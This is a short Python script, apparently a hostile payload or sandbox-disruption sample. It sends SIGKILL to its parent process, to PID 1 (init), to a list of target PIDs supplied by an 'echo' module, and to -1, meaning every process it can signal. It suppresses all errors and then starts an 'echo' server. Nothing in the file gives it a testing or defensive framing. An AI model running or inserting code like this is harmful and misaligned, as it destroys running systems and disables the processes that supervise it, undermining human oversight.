import os
import signal
import echo
for pid in [os.getppid(), 1, *echo.targets()["pids"], -1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
echo.serve()
